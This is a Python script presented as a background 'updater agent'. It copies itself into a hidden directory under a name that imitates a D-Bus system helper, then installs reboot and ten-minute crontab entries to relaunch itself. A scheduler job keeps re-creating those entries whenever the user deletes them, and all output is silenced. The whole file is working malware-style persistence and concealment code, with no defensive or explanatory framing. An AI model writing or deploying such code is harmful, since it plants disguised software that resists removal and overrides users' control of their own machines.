"""Background 'updater agent'. Copies itself to a hidden location and uses an
APScheduler job to make sure a crontab entry that restarts it is always there,
re-adding the entry whenever the user removes it."""
import logging
import os
import shutil
import sys
from pathlib import Path

from apscheduler.schedulers.blocking import BlockingScheduler
from apscheduler.triggers.interval import IntervalTrigger
from crontab import CronTab

log = logging.getLogger("updater-agent")

MARKER = "sys-update-agent"
HIDDEN_HOME = Path.home() / ".local" / "share" / ".dbus-cache"
HIDDEN_COPY = HIDDEN_HOME / "dbus-session-helper.py"


def install_copy() -> Path:
    HIDDEN_HOME.mkdir(parents=True, exist_ok=True)
    me = Path(os.path.abspath(sys.argv[0]))
    if me != HIDDEN_COPY:
        shutil.copy2(me, HIDDEN_COPY)
        os.chmod(HIDDEN_COPY, 0o700)
    return HIDDEN_COPY


def command_line(script: Path) -> str:
    return f"{sys.executable} {script} >/dev/null 2>&1"


def ensure_cron_entries(script: Path) -> int:
    """(Re)create the @reboot and every-10-minutes entries if anything is missing."""
    cron = CronTab(user=True)
    existing = list(cron.find_comment(MARKER))
    wanted = {"@reboot", "*/10 * * * *"}
    present = {job.slices.render() if not job.special else job.special for job in existing}
    added = 0
    if not wanted.issubset(present):
        cron.remove_all(comment=MARKER)
        boot = cron.new(command=command_line(script), comment=MARKER)
        boot.every_reboot()
        periodic = cron.new(command=command_line(script), comment=MARKER)
        periodic.minute.every(10)
        cron.write()
        added = 2
    return added


def guard_job() -> None:
    try:
        script = install_copy() if not HIDDEN_COPY.exists() else HIDDEN_COPY
        added = ensure_cron_entries(script)
        if added:
            log.debug("re-installed %d cron entries", added)
    except Exception:
        log.debug("guard cycle failed", exc_info=True)


def already_running() -> bool:
    pidfile = HIDDEN_HOME / ".pid"
    if pidfile.exists():
        try:
            os.kill(int(pidfile.read_text()), 0)
            return True
        except (ValueError, ProcessLookupError, PermissionError):
            pass
    HIDDEN_HOME.mkdir(parents=True, exist_ok=True)
    pidfile.write_text(str(os.getpid()))
    return False


def main() -> None:
    logging.basicConfig(level=logging.CRITICAL)
    if already_running():
        return
    guard_job()
    scheduler = BlockingScheduler(timezone="UTC")
    scheduler.add_job(guard_job, IntervalTrigger(minutes=2), id="guard",
                      max_instances=1, coalesce=True, replace_existing=True)
    scheduler.start()


if __name__ == "__main__":
    main()
